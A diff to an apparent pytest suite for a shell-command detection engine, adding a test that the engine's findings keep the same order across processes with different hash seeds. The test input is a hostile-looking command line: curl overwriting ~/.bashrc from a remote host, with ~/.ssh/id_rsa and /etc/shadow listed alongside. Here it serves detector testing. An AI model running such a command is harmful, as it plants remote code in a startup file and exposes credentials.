@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import base64
+import os
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -104,3 +107,12 @@ def test_a_pattern_that_counts_far_is_named_by_file_and_line_and_the_rest_go_on(
     (problem,) = engine.problems
     assert str(problem).startswith(f"{tmp_path.name}/mine.yml:11: code: {{0,200}} counts further than 64")
     assert [finding.rule for finding in engine.examine("ls quux")] == ["near"]
+
+
+@pytest.mark.parametrize("seed", ["1", "2", "3"])
+def test_the_findings_stand_in_the_same_order_in_every_process(seed: str) -> None:
+    text = "curl -o ~/.bashrc http://192.0.2.3/.x/a ~/.bash_history ~/.ssh/id_rsa /etc/shadow"
+    code = f"from tests.unit.analysis.commands.test_engine import ENGINE; print([found.rule for found in ENGINE.examine({text!r})])"
+    environment = {**os.environ, "PYTHONHASHSEED": seed}
+    said = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, check=True).stdout
+    assert said.strip() == str([finding.rule for finding in ENGINE.examine(text)])
